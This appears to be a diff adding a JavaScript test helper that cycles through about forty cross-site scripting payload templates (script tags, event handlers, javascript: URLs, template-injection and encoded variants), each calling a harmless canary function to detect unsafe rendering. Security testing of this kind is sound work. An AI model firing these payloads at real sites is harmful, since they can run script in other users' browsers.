@@ -1,0 +1,48 @@
+// Texts that run somewhere when a page takes them for markup; each would call `planted(n)`.
+const FORMS = [
+  (c) => `<script>${c}</script>`,
+  (c) => `"><script>${c}</script>`,
+  (c) => `'><svg onload=${c}>`,
+  (c) => `<img src=x onerror=${c}>`,
+  (c) => `"><img src=x onerror="${c}">`,
+  (c) => `</title><svg/onload=${c}>`,
+  (c) => `</textarea><img src=x onerror=${c}>`,
+  (c) => `<body onpageshow=${c}>`,
+  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
+  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
+  (c) => `javascript:${c}`,
+  (c) => `JaVaScRiPt:${c}//`,
+  (c) => `data:text/html,<script>opener.${c}</script>`,
+  (c) => `<a href="javascript:${c}">x</a>`,
+  (c) => `" onmouseover="${c}" autofocus onfocus="${c}" x="`,
+  (c) => `' autofocus onfocus='${c}`,
+  (c) => `<details open ontoggle=${c}>`,
+  (c) => `<video><source onerror=${c}></video>`,
+  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
+  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
+  (c) => `{{constructor.constructor('${c}')()}}`,
+  (c) => `\${${c}}`,
+  (c) => `<style>@import "javascript:${c}"</style>`,
+  (c) => `<base href="//127.0.0.1:1/">`,
+  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
+  (c) => `<svg><script>${c}</script></svg>`,
+  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
+  (c) => `<form action="javascript:${c}"><button>`,
+  (c) => `<input autofocus onfocus=${c}>`,
+  (c) => `<object data="javascript:${c}"></object>`,
+  (c) => `\u003cimg src=x onerror=${c}\u003e`,
+  (c) => `&lt;img src=x onerror=${c}&gt;`,
+  (c) => `%3Cimg%20src%3Dx%20onerror%3D${c}%3E`,
+  (c) => `\u202e<img src=x onerror=${c}>`,
+  (c) => `<x contenteditable onblur=${c}>x</x>`,
+  (c) => `<marquee onstart=${c}>`,
+  (c) => `<audio src=x onerror=${c}>`,
+  (c) => `<link rel=stylesheet href="javascript:${c}">`,
+  (c) => `__proto__<img src=x onerror=${c}>`,
+  (c) => `<template><img src=x onerror=${c}></template>`,
+]
+
+let n = 0
+/** Another payload; every form comes in turn. */
+export const payload = () => FORMS[n % FORMS.length](`planted(${++n})`)
+export const planted = () => n
